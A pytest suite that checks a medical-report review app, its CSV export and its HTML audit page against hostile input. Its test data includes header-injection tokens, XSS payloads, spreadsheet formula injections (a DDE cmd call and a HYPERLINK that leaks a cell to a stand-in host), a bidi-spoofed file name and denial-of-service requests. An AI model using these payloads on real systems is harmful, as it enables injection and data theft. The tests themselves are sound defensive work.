"""The review app, export and audit page under hostile requests and tampered files (docs/review-safety.md)."""
from __future__ import annotations

import csv
import http.client
import json
import socket
import threading
import time

import pytest
from typer.testing import CliRunner

from pipeline.cli import app as cli
from pipeline.review import open_review
from pipeline.review.app import ReviewApp
from pipeline.review.audit import write_audit
from pipeline.review.export import export_review
from pipeline.review.highlight import Mark, render_html
from pipeline.review.server import ReviewServer

TOKEN = "k3y-for-tests-only-0123456789"
runner = CliRunner()


def serve(tmp_path, review_source, **options) -> ReviewServer:
    store = open_review(tmp_path / "review.sqlite", str(review_source["output"]), str(review_source["input"]))
    srv = ReviewServer(ReviewApp(store, "alice"), "127.0.0.1", 0, **options)
    srv.serve_in_thread()
    return srv


@pytest.fixture()
def server(tmp_path, review_source):
    srv = serve(tmp_path, review_source, timeout=1.0, max_connections=4)
    yield srv
    srv.shutdown()
    srv.server_close()


def raw_request(srv: ReviewServer, data: bytes) -> bytes:
    """Send ``data`` as it is (no client library fixing it up) and read the whole answer."""
    with socket.create_connection(srv.server_address[:2], timeout=10) as sock:
        sock.sendall(data)
        chunks = []
        while chunk := sock.recv(65536):
            chunks.append(chunk)
    return b"".join(chunks)


def request(srv: ReviewServer, method: str, path: str, body: bytes | None = None, headers: dict | None = None):
    conn = http.client.HTTPConnection(*srv.server_address[:2], timeout=10)
    conn.request(method, path, body=body, headers={"Host": f"127.0.0.1:{srv.server_address[1]}", **(headers or {})})
    response = conn.getresponse()
    data = response.read()
    conn.close()
    return response.status, response.headers, data


def session(srv: ReviewServer) -> str:
    status, _, body = request(srv, "POST", "/api/session", json.dumps({"reviewer": "alice"}).encode(), {"Content-Type": "application/json"})
    assert status == 200
    return json.loads(body)["token"]


# --------------------------------------------------------------------------- 11. no request data in headers


def test_a_token_in_the_address_is_never_echoed_into_a_header(server):
    status, headers, _ = request(server, "GET", "/?token=x%0d%0aX-Injected:%20yes")
    assert status == 400 and "X-Injected" not in headers and "Set-Cookie" not in headers  # a token never holds control characters
    status, headers, _ = request(server, "GET", "/?token=planted-by-another-site")
    assert status == 200 and "Set-Cookie" not in headers  # no token configured: a ?token= sets no cookie


def test_with_a_token_only_the_right_one_sets_the_cookie_and_control_characters_are_refused(tmp_path, review_source):
    srv = serve(tmp_path, review_source, token=TOKEN)
    try:
        status, headers, _ = request(srv, "GET", f"/?token={TOKEN}")
        assert status == 303 and headers["Set-Cookie"].startswith(f"dvt_review_token={TOKEN};")
        status, headers, body = request(srv, "GET", f"/?token={TOKEN}%0d%0aX-Injected:%20yes")
        assert status == 400 and "X-Injected" not in headers and "Set-Cookie" not in headers and json.loads(body)["error"]
        for bad in (f"{TOKEN}\x7f", f"{TOKEN}\x00"):
            with pytest.raises(ValueError, match="token"):
                ReviewServer(srv.app, "127.0.0.1", 0, token=bad)
    finally:
        srv.shutdown()
        srv.server_close()


# --------------------------------------------------------------------------- 12. no empty or short token


@pytest.mark.parametrize("token", ["", "short", " " * 20])
def test_an_empty_or_short_token_is_refused(tmp_path, review_source, token):
    store = open_review(tmp_path / "review.sqlite", str(review_source["output"]), str(review_source["input"]))
    for host in ("127.0.0.1", "0.0.0.0"):
        with pytest.raises(ValueError, match="at least 16"):
            ReviewServer(ReviewApp(store), host, 0, token=token)
    result = runner.invoke(cli, ["review", "--db", str(tmp_path / "review.sqlite"), "--token", token, "--host", "0.0.0.0", "--port", "0"])
    assert result.exit_code == 1 and "at least 16" in result.output and "Traceback" not in result.output


# --------------------------------------------------------------------------- 13. malformed requests, idle and many connections


def test_a_negative_content_length_is_refused_without_reading_the_body(server):
    answer = raw_request(server, b"POST /api/session HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nContent-Type: application/json\r\n"
                                 b"Content-Length: -1\r\nConnection: close\r\n\r\n" % server.server_address[1] + b"{" * 4096)
    assert answer.startswith(b"HTTP/1.0 400") and b"Content-Length" in answer.split(b"\r\n\r\n")[0]
    assert json.loads(answer.split(b"\r\n\r\n", 1)[1])["error"]


DEEP = b"[" * 30_000 + b"]" * 30_000


@pytest.mark.parametrize("method, path, body, status", [
    ("GET", "/api/reports/" + "9" * 30, None, 400),                             # a row beyond any 64-bit integer
    ("GET", "/api/reports/" + "9" * 5000, None, 400),                           # beyond Python's int parsing limit
    ("GET", "/api/queue?offset=" + "9" * 25, None, 400),
    ("GET", "/api/queue?limit=-5", None, 400),
    ("GET", "/api/next?after=" + "9" * 25, None, 400),
    ("POST", "/api/decisions", b'{"row": 0, "action": "accept", "note": "lone \\ud800 surrogate"}', 400),
    ("POST", "/api/decisions", b'{"row": 99999999999999999999999, "action": "accept"}', 400),
    ("POST", "/api/decisions", DEEP, 400),
    ("POST", "/api/session/end", b'{"token": ["a", "b"]}', 400),
    ("POST", "/api/session", b'{"reviewer": ["a"]}', 400),
    ("POST", "/api/session", b'{"reviewer": "al\\u0000ice"}', 400),
    ("POST", "/api/decisions", b'{"row": 0, "action": "accept"}\xff\xfe', 400),
])
def test_malformed_requests_get_a_json_error_not_a_dropped_connection(server, method, path, body, status):
    token = session(server)
    headers = {"Content-Type": "application/json"} | ({} if path.startswith("/api/session") else {"X-Review-Session": token})
    got, headers, data = request(server, method, path, body, headers)
    assert got == status and headers["Content-Type"] == "application/json" and json.loads(data)["error"]


def test_a_list_as_session_header_value_is_refused(server):
    session(server)
    status, _, data = request(server, "GET", "/api/queue", headers={"X-Review-Session": '["a", "b"]'})
    assert status == 409 and "reload" in json.loads(data)["error"]  # not a session: told so, in JSON


def test_idle_connections_time_out(server):
    sock = socket.create_connection(server.server_address[:2], timeout=10)
    started = time.monotonic()
    sock.sendall(b"GET /api/info HTTP/1.1\r\n")  # and then nothing
    assert sock.recv(100) == b""  # the server closes the connection after its timeout (1 s here)
    assert 0.5 < time.monotonic() - started < 5
    sock.close()


def test_connections_beyond_the_limit_are_turned_away_and_threads_stay_bounded(server):
    before = threading.active_count()
    idle = [socket.create_connection(server.server_address[:2], timeout=10) for _ in range(12)]
    time.sleep(0.3)
    assert threading.active_count() <= before + 4  # max_connections=4
    answers = []
    for sock in idle:
        try:
            answers.append(sock.recv(200))
        except OSError:
            answers.append(b"")
        sock.close()
    assert sum(a.startswith(b"HTTP/1.0 503") for a in answers) >= 8  # the ones over the limit were told at once
    time.sleep(1.5)
    assert request(server, "GET", "/api/info")[0] == 200  # and the server still serves


# --------------------------------------------------------------------------- 14. the audit page runs no script


def tampered_output(tmp_path, review_source):
    """The review output with a finding whose group and status carry markup, and an id with a bidi override."""
    lines = review_source["output"].read_text(encoding="utf-8").splitlines()
    records = [json.loads(line) for line in lines]
    first = next(r for r in records if r["findings"])
    first["findings"][0]["group"] = 'proximal" onmouseover="alert(1)'
    first["findings"][0]["status"] = "present'><script>alert(2)</script>"
    out = tmp_path / "tampered.jsonl"
    out.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    return out, first["id"]


def test_a_tampered_output_cannot_put_markup_into_the_audit_page(tmp_path, review_source):
    out, _ = tampered_output(tmp_path, review_source)
    page = tmp_path / "audit.html"
    write_audit(str(out), str(page), str(review_source["input"]))
    html = page.read_text(encoding="utf-8")
    assert "<script" not in html and 'onmouseover="' not in html and "onmouseover=&quot;" in html
    assert '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; style-src \'unsafe-inline\'' in html


def test_highlight_classes_are_escaped():
    html = render_html("left popliteal vein", [Mark(5, 14, ("mention", 'g-x" onclick="y'), "f0", "t")])
    assert 'onclick="' not in html and "&quot;" in html


# --------------------------------------------------------------------------- 15. no spreadsheet formulas in exports


def test_export_neutralises_formula_cells(tmp_path, review_source):
    store = open_review(tmp_path / "review.sqlite", str(review_source["output"]), str(review_source["input"]))
    token = store.open_session("=cmd|' /C calc'!A0")
    store.decide(token, 0, "accept", None, None, '=HYPERLINK("http://x.example/?"&A1,"open")')
    store.close_session(token)
    token = store.open_session("@bob")
    store.decide(token, 1, "accept", None, None, "+1 confirms; -2 does not")
    out = tmp_path / "adjudicated.csv"
    export_review(store, str(out))
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert [(r["reviewer"], r["note"]) for r in rows] == [("'=cmd|' /C calc'!A0", "'=HYPERLINK(\"http://x.example/?\"&A1,\"open\")"),
                                                          ("'@bob", "'+1 confirms; -2 does not")]
    assert [r["id"] for r in rows] == ["r1", "r2"]  # ids stay as they are: dvt evaluate matches them


# --------------------------------------------------------------------------- 16. bidirectional controls are shown, not obeyed


def test_bidi_controls_are_shown_as_visible_escapes_in_the_audit_and_the_app(tmp_path, review_source):
    from pipeline.review.highlight import visible

    assert visible("r\u202eFDP.exe") == "r⟨U+202E⟩FDP.exe" and visible("plain") == "plain"
    source = tmp_path / "reports.jsonl"
    rows = [("r\u202e1", "No DVT.\u2066 Thrombus in the right\u2069 popliteal vein.")]
    source.write_text("".join(json.dumps({"id": i, "text": t}) + "\n" for i, t in rows), encoding="utf-8")
    out = tmp_path / "out.jsonl"
    assert runner.invoke(cli, ["extract", str(source), "-o", str(out), "-q", "-w", "1"]).exit_code == 0
    page = tmp_path / "audit.html"
    write_audit(str(out), str(page), str(source))
    html = page.read_text(encoding="utf-8")
    assert "\u202e" not in html and "\u2066" not in html and "⟨U+202E⟩" in html and "⟨U+2066⟩" in html
    store = open_review(tmp_path / "review.sqlite", str(out), str(source))
    review = ReviewApp(store, "alice")
    token = review.handle("POST", "/api/session", {}, b'{"reviewer": "alice"}', None).body["token"]
    body = review.handle("GET", "/api/reports/0", {}, b"", token).body
    assert "\u2066" not in body["html"] and "⟨U+2066⟩" in body["html"]


# --------------------------------------------------------------------------- further hostile input (docs/hostile-input.md)


@pytest.mark.parametrize("line", [
    '{"id": NaN, "label": "NEGATIVE"}',
    '{"id": "a", "label": "NEGATIVE", "findings": "not a list"}',
    '{"id": "a", "label": "NEGATIVE", "findings": [{"group": "proximal", "status": "present", "side": "left", "evidence": {"start": "0"}}]}',
    '{"id": "a", "label": ["NEGATIVE"]}',
])
def test_a_tampered_output_is_a_one_line_error_in_review_and_audit(tmp_path, line):
    out = tmp_path / "out.jsonl"
    out.write_text(line + "\n")
    for args in (["audit", str(out), "-o", str(tmp_path / "a.html")], ["review", str(out), "--db", str(tmp_path / "r.sqlite"), "--port", "0"]):
        result = runner.invoke(cli, args)
        assert result.exit_code == 1 and "out.jsonl line 1" in result.output and result.output.count("\n") == 1, result.output


def test_export_and_audit_never_write_over_what_they_read(tmp_path, review_source):
    db = tmp_path / "review.sqlite"
    open_review(db, str(review_source["output"]), str(review_source["input"]))
    before = db.read_bytes()
    result = runner.invoke(cli, ["review", "export", "--db", str(db), "-o", str(db), "-f", "csv"])
    assert result.exit_code == 1 and "would overwrite" in result.output and db.read_bytes() == before
    output = review_source["output"]
    kept = output.read_bytes()
    for target in (output, review_source["input"]):
        result = runner.invoke(cli, ["audit", str(output), "-o", str(target), "--input", str(review_source["input"])])
        assert result.exit_code == 1 and "would overwrite" in result.output
    assert output.read_bytes() == kept
